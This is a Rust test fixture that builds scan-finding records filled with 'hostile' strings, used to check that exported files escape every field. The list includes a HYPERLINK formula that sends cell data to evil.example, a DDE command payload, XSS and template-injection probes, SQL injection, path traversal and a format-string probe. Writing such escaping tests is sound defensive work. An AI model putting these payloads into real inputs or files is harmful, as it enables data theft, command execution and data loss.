//! Texts that break what does not escape them.

use export_core::finding::{Component, Finding, Location};
use export_core::record::FindingRecord;

use super::finding::record;

/// Formulas, markup, controls, quotes, other directions: each must come out of a file as the text that it is.
pub const HOSTILE: &[&str] = &[
    "",
    " ",
    "=1+1",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    "＝1+1",
    "a,b;c\td|e",
    "she said \"no\"",
    "two\nlines",
    "two\r\nlines",
    "ends with a quote\"",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</title></style><!--",
    "&lt;not markup&gt; &amp; &#x27;",
    "{{ 7 * 7 }} {% raw %} ${7*7} #{7*7}",
    "javascript:alert(1)",
    "[link](javascript:alert(1)) ![i](http://evil.example/x.png)",
    "back\\slash \\u0000 \\\"",
    "control \u{1}\u{8}\u{b}\u{1f}\u{7f} end",
    "next line \u{85} separators \u{2028}\u{2029} end",
    "right to left \u{202e}gnp.exe\u{202c}",
    "שלום עולם مرحبا",
    "漢字かな交じり文",
    "🙂👩‍👩‍👧‍👦🏳️‍🌈",
    "e\u{301} is not \u{e9}",
    "\u{feff}starts with a byte order mark",
    "not a character \u{ffff}\u{fffe}",
    "null",
    "1e309",
    "007",
    "2026-11-23",
    "../../etc/passwd",
    "C:\\con\\aux.txt",
    "; DROP TABLE job; --",
    "%s%n%x",
];

/// A text of a million characters.
#[must_use]
pub fn very_long() -> String {
    "long é ".repeat(142_858)
}

/// One record for each hostile text, which stands in every member that a scanner fills.
#[must_use]
pub fn hostile_records() -> Vec<FindingRecord<'static>> {
    HOSTILE.iter().enumerate().map(|(index, text)| hostile_record(index as u64, text)).collect()
}

fn hostile_record(index: u64, text: &'static str) -> FindingRecord<'static> {
    let plain = record(index);
    let finding = Finding {
        image: text.into(),
        target: text.into(),
        severity_source: Some(text.into()),
        title: text.into(),
        description: text.into(),
        component: Some(Component {
            name: text.into(),
            version: text.into(),
            purl: (!text.is_empty()).then(|| text.into()),
            ecosystem: text.into(),
        }),
        locations: vec![Location { path: text.into(), layer: Some(text.into()), ..Location::default() }],
        primary_url: Some(text.into()),
        references: vec![text.into()],
        ..plain.finding
    };
    let mut hostile = FindingRecord { finding, ..plain };
    hostile.finding.fix.versions = text.into();
    for verdict in &mut hostile.verdicts {
        if let Some(subject) = &mut verdict.subject {
            (subject.purl, subject.target) = (text.into(), Some(text.into()));
        }
        (verdict.policy, verdict.rule, verdict.reason) = (text.into(), text.into(), text.into());
    }
    if let Some(vex) = &mut hostile.vex {
        (vex.author, vex.impact, vex.action) = (text.into(), Some(text.into()), Some(text.into()));
    }
    hostile
}
